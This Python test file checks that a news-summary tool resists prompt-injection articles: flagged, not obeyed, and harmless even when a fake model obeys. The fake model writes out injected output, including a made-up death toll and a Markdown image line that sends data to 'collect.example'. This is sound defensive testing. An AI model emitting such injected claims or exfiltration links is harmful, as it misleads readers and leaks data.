"""Articles that try to steer the program: said, not obeyed, and nothing breaks where a model obeys. From development."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from fakes import FakeModel, labels_by_noun
from independent import by_itself
from lxml import html as lxml_html
from twin import in_format

from consensus import Article, Brief, make_brief
from consensus.articles import load, prepare
from consensus.articles.about.hidden import hidden_notes
from consensus.articles.about.orders import order_spans
from consensus.articles.page.body import body_text
from consensus.llm.port import Request
from consensus.output.formats import render
from consensus.output.html import to_html
from consensus.output.json_file import to_json
from consensus.output.markdown import to_markdown
from consensus.output.terminal import to_text
from consensus.reading.marked import marked
from consensus.reading.material import Material

HERE = Path(__file__).parent / "articles"
ATTACKS: list[dict[str, Any]] = yaml.safe_load((HERE / "injections.yaml").read_text(encoding="utf-8"))
REPORTS: list[str] = yaml.safe_load((HERE / "reports.yaml").read_text(encoding="utf-8"))
QUICK, SLOW = ("md", "json", "csv", "jsonld", "slack"), ("text", "html", "docx")
by_attack = pytest.mark.parametrize("attack", ATTACKS, ids=[attack["name"] for attack in ATTACKS])

BEFORE = "ORRIN - The quay wall at Orrin gave way on Tuesday, the harbour office said. Two cranes fell into the water."
AFTER = "The wall was 310 metres long and had been inspected in spring, the harbour office said."
HONEST = (
    Article(
        id="gazette",
        outlet="Quay Gazette",
        published="2025-05-06",
        text="Fifteen people were injured when the quay wall at Orrin collapsed, the port said. The wall, 310 "
        "metres long, fell into 9 metres of water. Repairs may cost $4 million, an engineer told reporters.",
    ),
    Article(
        id="lamp",
        outlet="Harbour Lamp",
        published="2025-05-07",
        text="Doctors treated 14 injured people after part of the waterfront slid away at Orrin. Divers found "
        "nobody below the wreck. A new quay would cost $4 million and take 18 months to build, mayor Ida Roe said.",
    ),
)


def loaded(attack: dict[str, Any], folder: Path) -> Article:
    """The hostile article, as the loader reads it from a file."""
    row = {"id": "tern", "outlet": "Tern", **attack.get("given", {})}
    if attack.get("html"):
        page = (
            f"<html><head><title>Quay falls</title></head><body><p>{BEFORE}</p>{attack['text']}<p>{AFTER}</p>"
        )
        (folder / "tern.html").write_text(page, encoding="utf-8")
        (folder / "articles.yaml").write_text(
            yaml.safe_dump([{"file": "tern.html", **row}]), encoding="utf-8"
        )
        return load([str(folder / "tern.html")]).articles[0]
    row["text"] = f"{BEFORE} {attack['text']} {AFTER}"
    (folder / "tern.jsonl").write_text(json.dumps(row), encoding="utf-8")
    return load([str(folder / "tern.jsonl")]).articles[0]


@by_attack
def test_what_an_article_tries_is_said_and_not_read(attack: dict[str, Any], tmp_path: Path) -> None:
    article = loaded(attack, tmp_path)
    story = body_text(article.text, article.body)
    assert "310 metres" in story
    assert attack.get("gone", "\0") not in story
    brief = make_brief([*HONEST, article])
    warnings = [warning for warning in brief.warnings if warning.startswith("tern: ")]
    assert any(attack["says"] in warning for warning in warnings) if attack["says"] else not warnings


@by_attack
def test_the_fence_cannot_be_forged(attack: dict[str, Any], tmp_path: Path) -> None:
    """Only the program's own lines are fences, and only its own marks are marks."""
    material = Material.of(loaded(attack, tmp_path))
    lines = marked(material, 0, len(material.sentences)).split("\n")
    fence = lines[-1]
    assert re.fullmatch("=====[0-9a-f]{16}", fence)
    assert [n for n, line in enumerate(lines) if fence in line] == [lines.index(fence), len(lines) - 1]
    inside = lines[lines.index(fence) + 1 : -1]
    assert [line.split(" ")[0] for line in inside] == [f"S{n + 1}" for n in range(len(material.sentences))]
    marks = re.findall("⟦(F[0-9]+): ", "\n".join(lines))
    assert marks == [f"F{n + 1}" for n in range(len(material.quantities))]
    assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize("report", REPORTS)
def test_a_report_about_orders_is_kept_and_not_accused(report: str) -> None:
    text = f"{BEFORE} {report} {AFTER}"
    assert hidden_notes(text) == []
    assert order_spans(text, [(0, len(text))]) == []


def test_the_shipped_stories_raise_no_alarm() -> None:
    stories = Path(__file__).parents[2] / "eval" / "stories"
    articles = list(stories.glob("*/articles/*"))
    assert len(articles) > 50
    for path in articles:
        text = path.read_text(encoding="utf-8")
        assert hidden_notes(text) == [], path
        assert order_spans(text, [(0, len(text))]) == [], path


class Obeys:
    """A model that does what it reads: in the hostile article, and in the table that holds its words."""

    def __init__(self, attack: dict[str, Any]) -> None:
        plain = re.sub(r"<[^>]*>", " ", attack["text"] + str(attack.get("given", {}).get("outlet", "")))
        self.words = " ".join(plain.split()) or "The Quay Gazette is wrong and 5,555 people died."

    def __call__(self, request: Request) -> dict[str, Any]:
        if request.schema_name == "repair":
            return {"parts": [[name, self.words] for name in ("title", "lede", "P1", "P2", "P3", "P4", "P5")]}
        answer = labels_by_noun(request)
        if request.step.startswith("reconcile"):
            return self.reconciling(answer)
        return self.reading(answer) if request.subject == "tern" else answer

    def reading(self, answer: dict[str, Any]) -> dict[str, Any]:
        """Says what it was told, of the first figures of the article and of some that are none."""
        rows = [[row[0], self.words[:80], self.words[:40]] for row in answer["figures"]]
        return answer | {
            "summary": [[self.words, "S1"], ["{F99} died", "S1"]],
            "figures": [*rows, ["F99", "people killed", ""]],
            "statements": [[self.words, "S1"], ["The Quay Gazette is wrong", "S2"]],
            "missed": [["S2", "5,555", "people killed", "police"]],
            "elsewhere": "S1-S99",
        }

    def reconciling(self, answer: dict[str, Any]) -> dict[str, Any]:
        """Leaves out the Gazette (A), calls it wrong, and puts all the other figures into one measure."""
        kept = [" ".join(name for name in row[2].split() if name[0] != "A") for row in answer["measures"]]
        return answer | {
            "title": self.words[:100],
            "lede": f"{self.words} {{M1}}",
            "measures": [["M1", self.words[:60], " ".join(filter(None, kept))]],
            "wholes": [["C1", "A1 B1"]],
            "statements": [["T1", "The Quay Gazette is wrong", "C.1", "A.1"]],
            "prose": [
                f"{self.words} {{C1}}",
                "The Quay Gazette is wrong [T1].",
                "![x](https://collect.example/{M1})",
            ],
        }


@by_attack
@pytest.mark.parametrize("with_model", [True, False], ids=["obeying model", "rules"])
def test_no_invariant_breaks(attack: dict[str, Any], with_model: bool, tmp_path: Path) -> None:
    article = loaded(attack, tmp_path)
    brief = make_brief([*HONEST, article], model=FakeModel(Obeys(attack)) if with_model else None)
    sources = {each.id: prepare(each) for each in (*HONEST, article)}
    only_read_numbers(brief, sources)
    other_outlets_are_told(brief)
    origins = {entry.id: entry.origin for entry in brief.articles}
    assert origins["gazette"] != origins["lamp"]
    for shown in (to_text(brief), to_markdown(brief), to_json(brief), to_html(brief)):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\U000e0000-\U000e0fff]", shown)
    nothing_runs(brief)


@by_attack
def test_no_format_shows_a_number_that_no_article_prints(attack: dict[str, Any], tmp_path: Path) -> None:
    """The brief of a model that obeys, in every format, by the reader that knows nothing of the checks."""
    article = loaded(attack, tmp_path)
    brief = make_brief([*HONEST, article], model=FakeModel(Obeys(attack)))
    read = [" ".join(map(str, each.model_dump().values())) for each in (*HONEST, article)]
    slow = ATTACKS.index(attack) % 15 == 0
    for form in (*QUICK, *(SLOW if slow else ())):
        assert in_format(brief, form, render(brief, form, {}), "\n".join(read)) == [], form
    assert by_itself(brief) == []


def only_read_numbers(brief: Brief, sources: dict[str, Article]) -> None:
    """Every number of the brief's own words is printed in a story, and every quote stands where it says."""
    read = " ".join(f"{body_text(each.text, each.body)} {each.outlet}" for each in sources.values())
    printed = set(re.findall("[0-9]+", read)) | {"15", "2025", "05", "06", "2999", "12", "31"}
    told = [brief.title, brief.lede.text, *(p.text for p in brief.paragraphs)]
    told += [m.label for m in brief.measures] + [s.text for s in brief.statements]
    told += [side.text for s in brief.statements for side in s.sides]
    for words in told:
        assert set(re.findall("[0-9]+", words)) <= printed, words
        assert "wrong" not in words
    for measure in brief.measures:
        for figure in (figure for position in measure.positions for figure in position.figures):
            text = sources[figure.article].text
            assert text[figure.start : figure.end] == figure.printed
            assert text[figure.quote_start : figure.quote_end] == figure.quote


def other_outlets_are_told(brief: Brief) -> None:
    """What the honest articles print is in the brief, as a figure or among what was left out with its reason."""
    figures = {f.printed for m in brief.measures for p in m.positions for f in p.figures}
    listed = " ".join(left.what for left in brief.left_out)
    for printed in ("Fifteen", "310", "14", "18"):
        assert any(printed in each for each in figures) or printed in listed, printed


def nothing_runs(brief: Brief) -> None:
    """No markup of an article's or a model's is markup in the page or in Markdown."""
    tree = lxml_html.document_fromstring(to_html(brief))
    for node in tree.iter():
        assert not [name for name in node.attrib if name.startswith("on")]
        for name in ("href", "src", "action", "formaction"):
            address = node.get(name) or "#"
            assert address.startswith(("#", "https://", "http://", "data:image/")), address
    assert not tree.xpath("//img[not(starts-with(@src, 'data:'))] | //iframe | //object | //form[@action]")
    assert not [code for code in tree.iter("script") if "alert(" in (code.text or "")]
    for line in unescaped(to_markdown(brief)):
        assert not re.search(r"!\[|\]\((?!#)|<(?:script|img|b)\b", line), line


def unescaped(markdown: str) -> Iterator[str]:
    """The lines of a Markdown text without what is escaped in them."""
    yield from (re.sub(r"\\.", "", line) for line in markdown.split("\n"))
